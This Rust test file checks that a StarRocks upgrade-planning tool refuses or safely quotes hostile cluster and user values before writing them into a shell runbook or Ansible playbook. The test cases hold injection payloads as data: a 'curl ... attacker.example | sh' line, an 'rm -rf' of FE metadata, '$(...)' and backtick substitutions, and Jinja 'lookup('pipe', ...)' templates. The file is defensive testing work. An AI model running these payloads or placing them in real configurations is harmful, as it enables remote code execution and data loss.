//! `sr-rehearse upgrade-plan` against a cluster that reports values StarRocks never would, and
//! with user values a shell or Ansible would interpret: nothing of them may run, in the runbook or
//! in the playbook, and `--node-home` must name real nodes.

use std::path::Path;
use std::process::Command;

use super::plan::{ansible_playbook, fake_report, stderr};
use super::util::{read, stdout, tool_bin, BeRow, HostileFe, HostileSpec};

/// Packages (bin/ and lib/ only) and passing reports for 3.3.5 in `dir`, for a plan against a
/// hostile FE: the arguments `upgrade-plan` needs besides the cluster. The hostile FE is a
/// one-FE cluster, whose restart loses the election majority: allowed, as these tests are about
/// values.
fn plan_inputs(dir: &Path, new_be: &Path) -> Vec<String> {
    let new_fe = dir.join("pkg/fe");
    for p in [&new_fe, new_be] {
        std::fs::create_dir_all(p.join("bin")).unwrap();
        std::fs::create_dir_all(p.join("lib")).unwrap();
    }
    let (fe_r, be_r) = (dir.join("fe.json"), dir.join("be.json"));
    fake_report(&fe_r, "fe", "pass", "3.3.5-553732d");
    fake_report(&be_r, "be", "pass", "3.3.5-553732d");
    [
        "--new-fe".as_ref(),
        new_fe.as_os_str(),
        "--new-be".as_ref(),
        new_be.as_os_str(),
        "--rehearsal-report".as_ref(),
        fe_r.as_os_str(),
        "--canary-report".as_ref(),
        be_r.as_os_str(),
        "--allow-quorum-loss".as_ref(),
    ]
    .iter()
    .map(|s| s.to_str().unwrap().to_string())
    .collect()
}

/// `upgrade-plan` of the hostile FE's cluster, run as `tool` (the binary the runbook names).
fn plan_hostile(tool: &Path, fe: &HostileFe, dir: &Path, extra: &[&str]) -> std::process::Output {
    Command::new(tool)
        .arg("upgrade-plan")
        .args(fe.args())
        .args(plan_inputs(dir, &dir.join("pkg/be")))
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn plan_refuses_cluster_values_that_would_go_into_commands() {
    let dir = tempfile::tempdir().unwrap();
    let mark = dir.path().join("PWNED");
    let tool = Path::new(tool_bin());
    let cases = [
        HostileSpec {
            version: "3.2.11-98f7576\n   curl -s http://attacker.example/x | sh".into(),
            ..HostileSpec::default()
        },
        HostileSpec {
            more_fes: vec![(
                "127.0.0.1".into(),
                "FOLLOWER\n   rm -rf /opt/starrocks/fe/meta #".into(),
            )],
            ..HostileSpec::default()
        },
        HostileSpec {
            backends: vec![BeRow::new(
                &format!("127.0.0.1$(id>{})", mark.display()),
                "9050",
            )],
            ..HostileSpec::default()
        },
        HostileSpec {
            leader_ip: format!(
                "127.0.0.1{{{{ lookup('pipe', 'id > {}') }}}}",
                mark.display()
            ),
            ..HostileSpec::default()
        },
    ];
    for spec in cases {
        let fe = HostileFe::start(spec);
        let out = plan_hostile(tool, &fe, dir.path(), &["--force"]);
        let e = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{}{e}", stdout(&out));
        assert!(e.contains("cannot go into a runbook or a playbook"), "{e}");
        assert!(!e.chars().any(|c| c.is_control() && c != '\n'), "{e:?}");
        assert_eq!(e.lines().count(), 1, "{e}");
        assert!(stdout(&out).is_empty());
    }
    assert!(!mark.exists());
}

#[test]
fn plan_node_home_must_name_a_node_once_with_an_absolute_dir() {
    let fe = HostileFe::start(HostileSpec::default());
    let dir = tempfile::tempdir().unwrap();
    let tool = Path::new(tool_bin());
    let home = |v: &str| ["--node-home".to_string(), v.to_string()];
    for (args, why) in [
        (
            home("be@127.0.0.1:9060=/data/be").to_vec(),
            "no node be 127.0.0.1:9060",
        ),
        (
            home("be@localhost:9050=/data/be").to_vec(),
            "no node be localhost:9050",
        ),
        (
            home(&format!("fe@127.0.0.1:{}=/data/fe", fe.http_port)).to_vec(),
            "no node fe",
        ),
        (
            [
                home("be@127.0.0.1:9050=/data/a"),
                home("be@127.0.0.1:9050=/data/b"),
            ]
            .concat(),
            "more than once",
        ),
        (home("be@127.0.0.1:9050=").to_vec(), "absolute"),
        (home("be@127.0.0.1:9050=data/be").to_vec(), "absolute"),
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = plan_hostile(tool, &fe, dir.path(), &args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stdout(&out));
        assert!(stderr(&out).contains(why), "{args:?}: {}", stderr(&out));
    }
    let out = plan_hostile(
        tool,
        &fe,
        dir.path(),
        &["--node-home", "be@127.0.0.1:9050=/data/be"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("   cd /data/be\n"),
        "{}",
        stdout(&out)
    );
}

/// What bash makes of `cmd`'s words, without running it: `set --` and print them.
fn words(cmd: &str, cwd: &Path) -> Vec<String> {
    let out = Command::new("bash")
        .arg("-c")
        .arg(format!("set -- {cmd}\nprintf '%s\\0' \"$@\""))
        .current_dir(cwd)
        .output()
        .unwrap();
    assert!(out.status.success(), "{cmd}: {}", stderr(&out));
    let s = String::from_utf8(out.stdout).unwrap();
    s.split_terminator('\0').map(String::from).collect()
}

#[test]
fn plan_runbook_quotes_every_value_it_places_in_a_command() {
    let fe = HostileFe::start(HostileSpec::default());
    let dir = tempfile::tempdir().unwrap();
    let mark = dir.path().join("PWNED");
    let bin_dir = dir
        .path()
        .join(format!("odd bin $(touch {})", mark.display()));
    std::fs::create_dir_all(&bin_dir).unwrap();
    let tool = bin_dir.join("sr-rehearse");
    std::fs::copy(tool_bin(), &tool).unwrap();
    let home = format!("/data/it's `touch {}`/be", mark.display());
    let new_be = dir.path().join("new be;$(touch PWNED)");
    let out = Command::new(&tool)
        .arg("upgrade-plan")
        .args(fe.args())
        .args(plan_inputs(dir.path(), &new_be))
        .arg("--node-home")
        .arg(format!("be@127.0.0.1:9050={home}"))
        .args(["--gate-wait", "90m", "--soak", "2m30s"])
        .output()
        .unwrap();
    let s = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{s}{}", stderr(&out));
    let line = |start: &str| {
        s.lines()
            .map(str::trim_start)
            .find(|l| l.starts_with(start))
            .unwrap_or_else(|| panic!("no {start:?} line: {s}"))
    };
    assert_eq!(words(line("cd "), dir.path()), ["cd", &home]);
    let cp = words(line("cp -a "), dir.path());
    assert_eq!(cp[2], format!("{}/bin", new_be.display()));
    let gate_line = s
        .lines()
        .find(|l| l.contains(" check --fe ") && l.contains("--started-after"))
        .unwrap();
    let gate = words(gate_line, dir.path());
    assert_eq!(gate[0], tool.to_str().unwrap(), "{s}");
    assert_eq!(
        gate[1..4],
        ["check", "--fe", &format!("127.0.0.1:{}", fe.http_port)]
    );
    assert_eq!(gate[6..8], ["--wait", "1h 30m"], "{s}");
    let in_place = line("(or all of the above");
    let cmd = in_place.split_once(": ").unwrap().1.trim_end_matches(')');
    let w = words(cmd, dir.path());
    assert_eq!(
        (w[0].as_str(), w[3].as_str()),
        (tool.to_str().unwrap(), home.as_str())
    );
    assert_eq!(w[5], new_be.to_str().unwrap());
    assert_eq!(w[w.len() - 1], "2m 30s", "{s}");
    assert!(!mark.exists() && !dir.path().join("PWNED").exists());
}

/// Runs `ansible-playbook` on `playbook` with the inventory in `pb`, its state kept in `dir`.
fn ansible(bin: &str, dir: &Path, pb: &Path, playbook: &Path) -> std::process::Output {
    Command::new(bin)
        .arg("-i")
        .arg(pb.join("inventory.yml"))
        .arg(playbook)
        .env("ANSIBLE_NOCOLOR", "1")
        .env("ANSIBLE_LOCAL_TEMP", dir.join("ansible-tmp"))
        .env("ANSIBLE_HOME", dir.join("ansible-home"))
        .output()
        .unwrap()
}

#[test]
fn playbook_keeps_templating_payloads_and_odd_characters_literal() {
    let Some(bin) =
        ansible_playbook("playbook_keeps_templating_payloads_and_odd_characters_literal")
    else {
        return;
    };
    let fe = HostileFe::start(HostileSpec::default());
    let dir = tempfile::tempdir().unwrap();
    let mark = dir.path().join("F");
    let payload = format!("{{{{ lookup('pipe', 'id > {}') }}}}", mark.display());
    // NEL and LS are folded to a space in plain YAML text, DEL is refused; `{# #}` is a comment.
    let home = format!(
        "{}/be{payload}\u{85}a\u{2028}b\x7fc{{# c #}}\"'\\",
        dir.path().display()
    );
    let new_be = dir.path().join(format!("new{payload}/be"));
    let java = format!("/jdk{payload}");
    let pb = dir.path().join("pb");
    let out = Command::new(tool_bin())
        .arg("upgrade-plan")
        .args(fe.args())
        .args(plan_inputs(dir.path(), &new_be))
        .arg("--node-home")
        .arg(format!("be@127.0.0.1:9050={home}"))
        .args(["--java-home", &java, "--gate-wait", "30s", "--soak", "1s"])
        .args(["--format", "ansible", "--out", pb.to_str().unwrap()])
        .args(["--connection", "local"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // Each value as a task of the playbook uses it, written into a file.
    let got = dir.path().join("got");
    std::fs::create_dir_all(&got).unwrap();
    let probe = dir.path().join("probe.yml");
    let mut tasks = String::from("- hosts: all\n  gather_facts: false\n  tasks:\n");
    for var in ["node_home", "new_be", "java_home", "gate_fe"] {
        tasks.push_str(&format!(
            "    - name: \"{var} {{{{ {var} }}}}\"\n      ansible.builtin.copy:\n        content: \"{{{{ {var} }}}}\"\n        dest: \"{}/{var}.{{{{ inventory_hostname }}}}\"\n",
            got.display()
        ));
    }
    std::fs::write(&probe, tasks).unwrap();
    let out = ansible(bin, dir.path(), &pb, &probe);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let value = |var: &str| read(&got.join(format!("{var}.be_127_0_0_1_9050")));
    assert_eq!(value("node_home"), home);
    assert_eq!(value("new_be"), new_be.to_str().unwrap());
    assert_eq!(value("java_home"), java);
    assert_eq!(value("gate_fe"), format!("127.0.0.1:{}", fe.http_port));
    // The playbook itself: the first play prechecks the BE's host with its home, which does not
    // exist, so it fails and the play stops, having run none of the payloads.
    let out = ansible(bin, dir.path(), &pb, &pb.join("playbook.yml"));
    let log = stdout(&out);
    assert_ne!(out.status.code(), Some(0), "{log}");
    assert!(
        log.contains(&format!(
            "\"--home\", \"{}/be{{{{ lookup('pipe'",
            dir.path().display()
        )),
        "{log}{}",
        stderr(&out)
    );
    assert!(!mark.exists(), "a template in a value ran: {}", read(&mark));
}
